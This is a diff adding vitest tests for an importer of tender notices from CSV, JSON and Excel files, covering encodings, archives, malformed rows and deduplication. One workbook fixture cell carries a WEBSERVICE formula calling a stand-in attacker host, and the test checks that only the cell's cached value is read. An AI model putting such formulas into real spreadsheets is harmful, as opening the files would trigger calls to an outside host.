@@ -1,0 +1,244 @@
+import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
+import { tmpdir } from 'node:os';
+import { join } from 'node:path';
+import { gzipSync } from 'node:zlib';
+import yazl from 'yazl';
+import { afterAll, beforeAll, describe, expect, it } from 'vitest';
+import type { NoticeContent } from '#contract/notices.ts';
+import type { Connection } from '#server/platform/db/database.ts';
+import type { Ctx } from '#server/platform/ctx.ts';
+import { testCtx } from '#tests/support/app.ts';
+import { testDatabase } from '#tests/support/database.ts';
+import { sheetXml, workbook } from '#tests/support/workbook.ts';
+import { importSources } from '../index.ts';
+import { streamOf } from '../reading/sources.ts';
+import { parseMapping } from './load-mapping.ts';
+
+let connection: Connection;
+let ctx: Ctx;
+let folder: string;
+beforeAll(async () => {
+  connection = await testDatabase();
+  ctx = testCtx(connection);
+  folder = mkdtempSync(join(tmpdir(), 'import-mapped-'));
+});
+afterAll(() => rmSync(folder, { recursive: true }));
+
+const given = {
+  version: 1,
+  id: 'hill-tenders',
+  recognise: { columns: ['Nº', 'Título', 'Valor'] },
+  country: 'PT',
+  language: 'pt',
+  currency: 'EUR',
+  decimal: ',',
+  dates: ['dd/MM/yyyy'],
+  key: ['Nº'],
+  date: 'Publicado',
+  fields: { title: 'Título', value: 'Valor', publishedAt: 'Publicado', deadline: 'Prazo', city: 'Local', contact: { email: 'E-mail' } },
+};
+const mapping = parseMapping(JSON.stringify(given));
+let count = 0;
+const fresh = () => `HILL-${++count}`;
+
+async function importing(content: string | Uint8Array | AsyncIterable<Uint8Array>, mappings = [mapping]) {
+  const source = typeof content === 'object' && Symbol.asyncIterator in content ? '-' : join(folder, `file-${++count}`);
+  if (source !== '-') writeFileSync(source, content as Uint8Array);
+  const { counters, runId, status } = await importSources(ctx, [source], { mappings, stdin: () => content as AsyncIterable<Uint8Array> });
+  const { rows } = await connection.pool.query<{ code: string; reason: string; raw: string; position: number }>(
+    'select code, reason, raw, position from import_error where run_id = $1 order by id',
+    [runId],
+  );
+  return { counters: Object.fromEntries(Object.entries(counters).filter(([, value]) => value > 0)), errors: rows, codes: rows.map(({ code }) => code), status };
+}
+const contentOf = async (key: string, source = 'hill-tenders') =>
+  (await connection.pool.query<{ content: NoticeContent }>('select content from notice where source = $1 and source_key = $2', [source, key])).rows[0]?.content;
+
+const header = ['Nº', 'Título', 'Valor', 'Publicado', 'Prazo', 'Local'];
+const rowOf = (key: string) => [key, 'Reparação da ponte', '1.234,50 €', '05/01/2026', '06/02/2026', 'São Tomé'];
+const table = (key: string, separator = ';') => [header, rowOf(key)].map((row) => row.join(separator)).join('\r\n');
+const expected = {
+  title: 'Reparação da ponte',
+  value: { amount: '1234.5', currency: 'EUR' },
+  city: 'São Tomé',
+  deadline: { at: '2026-02-06T23:59:59.000Z', zone: 'Europe/Lisbon', zoneAssumed: true, dateOnly: true },
+};
+
+describe('a table of one’s own', () => {
+  it.each([[';'], ['\t'], ['|']])('is read with %j between its cells', async (separator) => {
+    const key = fresh();
+    expect((await importing(table(key, separator))).counters).toEqual({ read: 1, new: 1 });
+    expect(await contentOf(key)).toMatchObject(expected);
+  });
+
+  it.each([
+    ['UTF-8 with a mark', (text: string) => Buffer.from(`\ufeff${text}`)],
+    ['UTF-16', (text: string) => Buffer.from(`\ufeff${text}`, 'utf16le')],
+    ['UTF-16, big end first', (text: string) => Buffer.from(`\ufeff${text}`, 'utf16le').swap16()],
+    ['windows-1252', (text: string) => Buffer.from(text.replaceAll('€', '\u0080'), 'latin1')],
+    ['gzip', (text: string) => gzipSync(text)],
+  ])('is read in %s', async (_, encode) => {
+    const key = fresh();
+    expect((await importing(encode(table(key)))).counters).toEqual({ read: 1, new: 1 });
+    expect(await contentOf(key)).toMatchObject(expected);
+  });
+
+  it('in Cyrillic of windows-1251 is told by its letters, or by the mapping', async () => {
+    const cyrillic = (text: string) =>
+      Buffer.from([...text].map((letter) => (letter >= 'А' && letter <= 'я' ? letter.charCodeAt(0) - 0x410 + 0xc0 : letter.charCodeAt(0))));
+    const own = parseMapping(
+      JSON.stringify({ ...given, id: 'hill-ru', recognise: { columns: ['No', 'Title'] }, key: ['No'], fields: { title: 'Title' }, date: undefined }),
+    );
+    const title = 'Строительство моста через реку и ремонт школы в селе';
+    const rows = (key: string) => cyrillic(`No,Title\n${key},${title}\n`);
+    expect((await importing(rows('R1'), [own])).codes).toEqual([]);
+    expect((await contentOf('R1', 'hill-ru'))?.title).toBe(title);
+    await importing(cyrillic('No,Title\nR2,мост\n'), [{ ...own, encoding: 'windows-1251' }]);
+    expect((await contentOf('R2', 'hill-ru'))?.title).toBe('мост');
+  });
+
+  it('may begin with a title, end with blanks and repeat its header; rows that are bad are logged and the others read', async () => {
+    const [a, b] = [fresh(), fresh()];
+    const lines = [
+      'Concursos;;;;;',
+      '',
+      header.join(';'),
+      rowOf(a).join(';'),
+      ';;;;;',
+      header.join(';'),
+      'x;y',
+      `${rowOf(fresh()).join(';')};one more`,
+      `${rowOf(b).join(';')};`,
+    ];
+    const { counters, errors, status } = await importing(lines.join('\n'));
+    expect(counters).toEqual({ read: 4, new: 2, failed: 2 });
+    expect(errors.map(({ code, reason }) => [code, reason])).toEqual([
+      ['ragged-row', 'It has 2 cells where the header has 6.'],
+      ['ragged-row', 'It has 7 cells where the header has 6.'],
+    ]);
+    expect(status).toBe('done');
+  });
+
+  it('that lacks a column is refused, and told which', async () => {
+    const { errors, status } = await importing('Nº;Título\n1;x\n');
+    expect(errors).toMatchObject([{ code: 'unknown-format' }]);
+    expect(errors[0]!.reason).toContain('its first row is: Nº, Título. For the mapping hill-tenders it lacks: Valor.');
+    expect(status).toBe('incomplete');
+  });
+
+  it('says all that there is to say: a later row takes back what it leaves empty, a column that is not there nothing', async () => {
+    const key = fresh();
+    await importing(table(key));
+    await importing(`Nº;Título;Valor;Publicado\n${key};Reparação da ponte;;07/01/2026\n`);
+    const now = await contentOf(key);
+    expect(now).toMatchObject({ deadline: expected.deadline, city: 'São Tomé' });
+    expect(now).not.toHaveProperty('value');
+    expect((await importing(table(key))).counters).toEqual({ read: 1, duplicate: 1 });
+  });
+
+  it('names a run by what its mappings say', async () => {
+    const key = fresh();
+    const source = join(folder, 'named.csv');
+    writeFileSync(source, table(key));
+    const { runId } = await importSources(ctx, [source], { mappings: [mapping] });
+    const { rows } = await connection.pool.query<{ options: { mappings: object } }>('select options from import_run where id = $1', [runId]);
+    expect(Object.keys(rows[0]!.options.mappings)).toEqual(['hill-tenders']);
+  });
+});
+
+describe('JSON of one’s own', () => {
+  const own = parseMapping(
+    JSON.stringify({
+      version: 1,
+      id: 'hill-json',
+      recognise: { members: ['number', 'about.title'], list: 'notices' },
+      key: ['number'],
+      fields: { title: 'about.title', value: { amount: 'sum.amount', currency: 'sum.currency' }, references: ['also'] },
+    }),
+  );
+  const record = (number: string) => ({ number, about: { title: 'Bridge' }, sum: { amount: 12.5, currency: 'KES' }, also: ['x', 'y', null] });
+
+  it.each([
+    ['a list', (list: object[]) => JSON.stringify(list)],
+    ['a list under its member', (list: object[]) => JSON.stringify({ count: 2, releases: [{}], notices: list })],
+    ['lines', (list: object[]) => list.map((one) => JSON.stringify(one)).join('\n')],
+  ])('is read as %s', async (_, write) => {
+    const [a, b] = [fresh(), fresh()];
+    expect((await importing(write([record(a), record(b)]), [own])).counters).toEqual({ read: 2, new: 2 });
+    expect(await contentOf(a, 'hill-json')).toMatchObject({ title: 'Bridge', value: { amount: '12.5', currency: 'KES' }, references: ['x', 'y', a] });
+  });
+
+  it('with records that are none, logs them and goes on', async () => {
+    const { counters, codes } = await importing(JSON.stringify({ notices: [record(fresh()), 7, { about: {} }, record(fresh())] }), [own]);
+    expect(counters).toEqual({ read: 4, new: 2, failed: 2 });
+    expect(codes).toEqual(['no-object', 'no-key']);
+  });
+});
+
+describe('a workbook of one’s own', () => {
+  const day = (serial: number) => ({ xml: `<c r="REF" s="1"><v>${serial}</v></c>` });
+  const shared = (number: number) => ({ xml: `<c r="REF" t="s"><v>${number}</v></c>` });
+  // 46027: 5 January 2026; 46059.5: noon of 6 February.
+  const rows = (key: string) => [
+    header,
+    [key, shared(1), 1234.5, day(46_027), day(46_059.5), { xml: '<c r="REF" t="str"><f>WEBSERVICE("http://evil.example")</f><v>São Tomé</v></c>' }],
+  ];
+  const strings = ['<t>never</t>', '<r><t>Reparação </t></r><r><t>da ponte</t></r><rPh sb="0" eb="1"><t>spoken</t></rPh>'];
+  const book = (key: string, more = {}) =>
+    workbook({
+      sheets: [
+        { name: 'Hidden', state: 'hidden', xml: sheetXml([['x']]) },
+        { name: 'Tenders', xml: sheetXml(rows(key)) },
+      ],
+      strings,
+      formats: [0, 14],
+      ...more,
+    });
+
+  it('gives its first visible sheet: shared texts, numbers, days, the value that a formula had', async () => {
+    const key = fresh();
+    const { counters, errors } = await importing(await book(key));
+    expect(errors).toEqual([]);
+    expect(counters).toEqual({ read: 1, new: 1 });
+    expect(await contentOf(key)).toMatchObject({
+      ...expected,
+      publishedAt: { at: '2026-01-05T00:00:00.000Z' },
+      deadline: { at: '2026-02-06T12:00:00.000Z', zoneAssumed: true },
+    });
+  });
+
+  it('counts days from 1904 where it says so, and knows a day by a format of its own', async () => {
+    const key = fresh();
+    await importing(await book(key, { date1904: true, formats: ['General', '[$-409]d\\-mmm\\-yyyy;@'] }));
+    expect((await contentOf(key))?.publishedAt).toMatchObject({ at: '2030-01-06T00:00:00.000Z' });
+  });
+
+  it('is read from standard input, from gzip and from within a zip; the sheet is the one that the mapping names', async () => {
+    const [a, b, c] = [fresh(), fresh(), fresh()];
+    expect((await importing(streamOf([await book(a)]))).counters).toEqual({ read: 1, new: 1 });
+    expect((await importing(gzipSync(await book(b)))).counters).toEqual({ read: 1, new: 1 });
+    const zip = new yazl.ZipFile();
+    zip.addBuffer(await book(c), 'in/tenders.xlsx');
+    zip.addBuffer(Buffer.from(table(fresh())), 'more.csv');
+    zip.end();
+    expect((await importing(Buffer.concat(await Array.fromAsync(zip.outputStream as AsyncIterable<Buffer>)))).counters).toEqual({ read: 2, new: 2 });
+    const d = fresh();
+    const sheets = [
+      { name: 'Other', xml: sheetXml([['x', 'y']]) },
+      { name: 'Tenders', xml: sheetXml(rows(d)) },
+    ];
+    const other = await workbook({ sheets, strings, formats: [0, 14] });
+    expect((await importing(other)).codes).toEqual(['unknown-format']);
+    expect((await importing(other, [{ ...mapping, sheet: 'tenders' }])).counters).toEqual({ read: 1, new: 1 });
+  });
+
+  it('read again adds and changes nothing; bad rows are logged with their numbers', async () => {
+    const key = fresh();
+    const sheet = sheetXml([...rows(key), ['', 'No number'], [], [fresh(), 'Short']]);
+    const bytes = await workbook({ sheets: [{ name: 'A', xml: [...sheet] }], strings, formats: [0, 14] });
+    const { counters, errors } = await importing(bytes);
+    expect(counters).toEqual({ read: 3, new: 2, failed: 1 });
+    expect(errors).toMatchObject([{ code: 'no-key', position: 3, raw: '\tNo number' }]);
+    expect((await importing(bytes)).counters).toEqual({ read: 3, duplicate: 2, failed: 1 });
+  });
+});
